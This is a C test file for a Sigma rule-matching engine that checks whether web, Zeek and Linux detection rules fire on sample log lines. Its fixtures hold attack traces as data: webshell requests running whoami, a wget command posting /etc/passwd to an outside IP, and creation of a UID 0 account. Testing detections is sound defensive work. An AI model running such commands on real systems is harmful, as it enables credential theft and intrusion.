/* test_logs_sigma.c — log events through the Sigma matcher: routing by the
 * logsource the reader vouches for (webserver / zeek+service / linux+service),
 * SigmaHQ rules (from ../shared/datasets when present) firing on the kind of
 * lines tests/gen/make_logs.py writes, and safe JSON rendering. */
#include <stdio.h>
#include <stdlib.h>
#include "test.h"
#include "logs_util.h"
#include "sigma_util.h"

/* number of rules of `rs` that fire on `line` parsed as format f */
static int fire(sp_ruleset *rs, sp_logfmt f, const char *src, const char *line, const char *want_id)
{
    lt t;
    lt_init(&t, f, src);
    sp_logstate_set_ref_time(t.st, 1672660800000LL);
    int n = -1;
    /* header lines first ("\n"-separated), the event last */
    const char *nl;
    while ((nl = strchr(line, '\n')) != NULL) {
        sp_arena_reset(&t.a);
        sp_log_parse(t.st, line, (size_t)(nl - line), &t.a, &t.ev, t.err, sizeof t.err);
        line = nl + 1;
    }
    if (lt_parse(&t, line) == 1) {
        sp_scanner *sc = NULL;
        hits h;
        memset(&h, 0, sizeof h);
        sp_event ev;
        sp_event_from_log(&ev, &t.ev);
        if (sp_scanner_new(rs, &sc) == SP_OK) sp_scanner_match_event(sc, &ev, hit_cb, &h);
        sp_scanner_free(sc);
        n = 0;
        for (int i = 0; i < h.n && i < 32; i++)
            if (!want_id || !strcmp(h.ids[i], want_id)) n++;
    } else {
        printf("  not parsed: %s (%s)\n", line, t.err);
    }
    lt_fini(&t);
    return n;
}

static const char *own_rules =
    "title: web\nid: w1\nlogsource: {category: webserver}\ndetection:\n  s: {cs-uri-stem|endswith: '.jsp', c-ip|cidr: '175.45.176.0/22'}\n  condition: s\n"
    "---\ntitle: zeek conn\nid: z1\nlogsource: {product: zeek, service: conn}\ndetection:\n  s: {id.resp_h: '104.225.129.103', id.resp_p: 443}\n  condition: s\n"
    "---\ntitle: zeek dns\nid: z2\nlogsource: {product: zeek, service: dns}\ndetection:\n  s: {answers: '1.2.3.4'}\n  condition: s\n"
    "---\ntitle: ssh\nid: l1\nlogsource: {product: linux, service: sshd}\ndetection:\n  s: {outcome: accepted, src_ip|cidr: '193.176.211.0/24'}\n  condition: s\n"
    "---\ntitle: referer null\nid: w2\nlogsource: {category: webserver}\ndetection:\n  s: {cs-referer: null, cs-method: POST}\n  condition: s\n";

TEST(logs_sigma_routing)
{
    sp_ruleset *rs = rs_from(own_rules, NULL);
    CHECK(rs != NULL);
    if (!rs) return;
    const char *web = "175.45.176.27 - - [12/Aug/2022:01:42:17 +0000] \"GET /zimbra/public/base.jsp HTTP/1.1\" 200 8312 \"-\" \"Mozilla/5.0\"";
    CHECK_EQ_INT(fire(rs, SP_LOG_WEB_COMBINED, "a.log", web, "w1"), 1);
    CHECK_EQ_INT(fire(rs, SP_LOG_WEB_COMBINED, "a.log", web, NULL), 1);
    const char *post = "23.237.32.34 - - [12/Aug/2022:01:42:17 +0000] \"POST /zimbra/public/base.jsp HTTP/1.1\" 200 8312 \"-\" \"-\"";
    CHECK_EQ_INT(fire(rs, SP_LOG_WEB_COMBINED, "a.log", post, "w2"), 1);
    CHECK_EQ_INT(fire(rs, SP_LOG_WEB_COMBINED, "a.log", post, "w1"), 0);
    const char *conn = "{\"ts\":1660089617.25,\"uid\":\"C1\",\"id.orig_h\":\"10.10.20.15\",\"id.resp_h\":\"104.225.129.103\",\"id.resp_p\":443}";
    CHECK_EQ_INT(fire(rs, SP_LOG_ZEEK_JSON, "conn.json", conn, "z1"), 1);
    CHECK_EQ_INT(fire(rs, SP_LOG_ZEEK_JSON, "ssl.json", conn, NULL), 0);   /* service ssl: not routed to conn rules */
    /* set values: one of them matches */
    const char *dns = "#path\tdns\n#fields\tts\tquery\tanswers\n#types\ttime\tstring\tvector[string]\n"
                      "1660089617.2\tq.example\tq.cdn.example,1.2.3.4";
    CHECK_EQ_INT(fire(rs, SP_LOG_ZEEK_TSV, "x.log", dns, "z2"), 1);
    const char *ssh = "Dec 31 23:34:30 mail sshd[21688]: Accepted password for backup from 193.176.211.77 port 51234 ssh2";
    CHECK_EQ_INT(fire(rs, SP_LOG_LINUX_AUTH, "auth.log", ssh, "l1"), 1);
    CHECK_EQ_INT(fire(rs, SP_LOG_LINUX_AUTH, "auth.log", ssh, "w1"), 0);
    sp_ruleset_free(rs);
}

/* a SigmaHQ rule file from the data set, compiled alone */
static sp_ruleset *sigmahq(const char *rel)
{
    const char *dd = test_data_dir();
    if (!dd) return NULL;
    char path[1024];
    snprintf(path, sizeof path, "%s/sigma/rules/%s", dd, rel);
    FILE *fp = fopen(path, "rb");
    if (!fp) return NULL;
    static char buf[65536];
    size_t n = fread(buf, 1, sizeof buf - 1, fp);
    fclose(fp);
    buf[n] = 0;
    sp_ruleset *rs = NULL;
    sp_error err;
    memset(&err, 0, sizeof err);
    if (sp_ruleset_new(NULL, &rs, &err) != SP_OK) return NULL;
    if (sp_ruleset_add_yaml(rs, rel, buf, n, &err) != SP_OK || sp_ruleset_compile(rs, &err) != SP_OK ||
        sp_ruleset_count(rs) != 1) {
        printf("  %s did not compile\n", rel);
        sp_ruleset_free(rs);
        return NULL;
    }
    return rs;
}

TEST(logs_sigmahq_rules)
{
    if (!test_data_dir()) SKIP("../shared/datasets absent: SigmaHQ rules not available");
    static const struct { const char *rule; sp_logfmt f; const char *src, *hit, *miss; } cases[] = {
        {"web/webserver_generic/web_win_webshells_in_access_logs.yml", SP_LOG_WEB_COMBINED, "access.log",
         "23.237.32.34 - - [10/Aug/2022:01:10:30 +0000] \"GET /zimbra/public/base.jsp?o=vs&cmd=whoami HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\" 12",
         "23.237.32.34 - - [10/Aug/2022:01:10:30 +0000] \"POST /zimbra/public/base.jsp?o=vs&cmd=whoami HTTP/1.1\" 200 900 \"-\" \"Mozilla/5.0\" 12"},
        {"web/webserver_generic/web_win_webshells_in_access_logs.yml", SP_LOG_WEB_IIS_W3C, "u_ex.log",
         "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
         "2022-08-15 07:26:59 10.0.0.5 GET /aspnet_client/system_web/errorEE.aspx exec=cmd+/c+whoami 443 - 23.237.32.34 Mozilla/5.0 - 200 0 0 121",
         "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
         "2022-08-15 07:26:59 10.0.0.5 GET /owa/ - 443 - 23.237.32.34 Mozilla/5.0 - 200 0 0 121"},
        {"web/webserver_generic/web_susp_useragents.yml", SP_LOG_WEB_COMBINED, "access.log",
         "mail.lab.example:443 45.155.205.233 - - [09/Aug/2022:04:00:00 +0000] \"GET /admin/ HTTP/1.1\" 404 196 \"-\" \"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)\"",
         "mail.lab.example:443 45.155.205.233 - - [09/Aug/2022:04:00:00 +0000] \"GET /admin/ HTTP/1.1\" 404 196 \"-\" \"Mozilla/5.0\""},
        {"network/zeek/zeek_http_webdav_put_request.yml", SP_LOG_ZEEK_JSON, "http.json",
         "{\"ts\":1660089617.2,\"uid\":\"C1\",\"id.orig_h\":\"10.10.20.15\",\"id.resp_h\":\"15.207.207.64\",\"method\":\"PUT\",\"host\":\"15.207.207.64\",\"uri\":\"/x\",\"user_agent\":\"Microsoft-WebDAV-MiniRedir/10.0.19043\"}",
         "{\"ts\":1660089617.2,\"uid\":\"C1\",\"id.orig_h\":\"10.10.20.15\",\"id.resp_h\":\"10.10.0.9\",\"method\":\"PUT\",\"host\":\"fs\",\"uri\":\"/x\",\"user_agent\":\"Microsoft-WebDAV-MiniRedir/10.0.19043\"}"},
        {"network/zeek/zeek_dns_torproxy.yml", SP_LOG_ZEEK_JSON, "dns.json",
         "{\"ts\":1660089617.2,\"uid\":\"C1\",\"id.orig_h\":\"10.10.20.15\",\"query\":\"abcdefgh.onion.to\",\"qtype_name\":\"A\"}",
         "{\"ts\":1660089617.2,\"uid\":\"C1\",\"id.orig_h\":\"10.10.20.15\",\"query\":\"www.nature.com\",\"qtype_name\":\"A\"}"},
        {"linux/builtin/lnx_privileged_user_creation.yml", SP_LOG_LINUX_AUTH, "auth.log",
         "Dec 31 23:36:31 mail useradd[21692]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
         "Dec 31 23:36:31 mail useradd[21692]: new user: name=carol, UID=1001, GID=1001, home=/home/carol, shell=/bin/bash, from=/dev/pts/0"},
        {"linux/builtin/sshd/lnx_sshd_susp_ssh.yml", SP_LOG_LINUX_AUTH, "auth.log",
         "Dec 31 23:00:00 mail sshd[100]: Corrupted MAC on input. [preauth]",
         "Dec 31 23:00:00 mail sudo[100]: Corrupted MAC on input. [preauth]"},
        {"linux/auditd/execve/lnx_auditd_user_discovery.yml", SP_LOG_LINUX_AUDIT, "audit.log",
         "type=EXECVE msg=audit(1660140251.866:8812): argc=1 a0=\"whoami\"",
         "type=EXECVE msg=audit(1660140251.866:8812): argc=1 a0=\"ls\""},
        {"linux/auditd/execve/lnx_auditd_data_exfil_wget.yml", SP_LOG_LINUX_AUDIT, "audit.log",
         "type=EXECVE msg=audit(1660140251.866:8815): argc=3 a0=\"wget\" a1=\"--post-file=/etc/passwd\" a2=\"http://104.225.129.103/up\"",
         "type=EXECVE msg=audit(1660140251.866:8815): argc=2 a0=\"wget\" a1=\"http://104.225.129.103/up\""},
        {"linux/auditd/syscall/lnx_auditd_web_rce.yml", SP_LOG_LINUX_AUDIT, "audit.log",
         "type=SYSCALL msg=audit(1660140251.866:8812): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=4120 pid=5012 auid=4294967295 uid=33 gid=33 euid=33 comm=\"sh\" exe=\"/usr/bin/dash\"",
         "type=SYSCALL msg=audit(1660140251.866:8812): arch=c000003e syscall=42 success=yes exit=0 items=2 ppid=4120 pid=5012 auid=4294967295 uid=33 gid=33 euid=33 comm=\"sh\" exe=\"/usr/bin/dash\""},
        {"linux/auditd/syscall/lnx_auditd_create_account.yml", SP_LOG_LINUX_AUDIT, "audit.log",
         "type=SYSCALL msg=audit(1660140251.866:8816): arch=c000003e syscall=59 success=yes exit=0 uid=0 euid=0 comm=\"useradd\" exe=2F7573722F7362696E2F75736572616464",
         "type=SYSCALL msg=audit(1660140251.866:8816): arch=c000003e syscall=59 success=yes exit=0 uid=0 euid=0 comm=\"ls\" exe=\"/usr/bin/ls\""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        sp_ruleset *rs = sigmahq(cases[i].rule);
        if (!rs) { printf("  rule %s unavailable\n", cases[i].rule); test_fail(__FILE__, __LINE__, cases[i].rule); continue; }
        int h = fire(rs, cases[i].f, cases[i].src, cases[i].hit, NULL);
        int m = fire(rs, cases[i].f, cases[i].src, cases[i].miss, NULL);
        if (h != 1 || m != 0) {
            printf("  %s: hit %d (want 1), miss %d (want 0)\n", cases[i].rule, h, m);
            test_fail(__FILE__, __LINE__, cases[i].rule);
        }
        sp_ruleset_free(rs);
    }
}

TEST(logs_json_escaping)
{
    lt t;
    lt_init(&t, SP_LOG_WEB_COMBINED, "we\"ird\n.log");
    static const char line[] = "1.2.3.4 - - [01/Jan/2022:00:00:00 +0000] \"GET /\x01\xff\xfe\\\" HTTP/1.1\" 200 1 \"-\" \"a\rb\0c\"";
    sp_arena_reset(&t.a);
    CHECK_EQ_INT(sp_log_parse(t.st, line, sizeof line - 1, &t.a, &t.ev, t.err, sizeof t.err), 1);
    sp_buf *b = sp_buf_new();
    sp_logevent_json(&t.ev, b);
    const char *s = sp_buf_data(b);
    size_t n = sp_buf_len(b);
    int bad = 0;
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)s[i];
        if (c < 0x20 || c >= 0x80) bad++;
    }
    CHECK_EQ_INT(bad, 0);
    CHECK(memmem(s, n, "\"_time\":\"2022-01-01T00:00:00.000Z\"", 34) != NULL);
    CHECK(memmem(s, n, "\"cs-referer\":null", 17) != NULL);
    CHECK(memmem(s, n, "we\\\"ird\\n.log", 13) != NULL);
    CHECK(memmem(s, n, "a\\rb\\u0000c", 11) != NULL);
    sp_buf_free(b);
    lt_fini(&t);
}
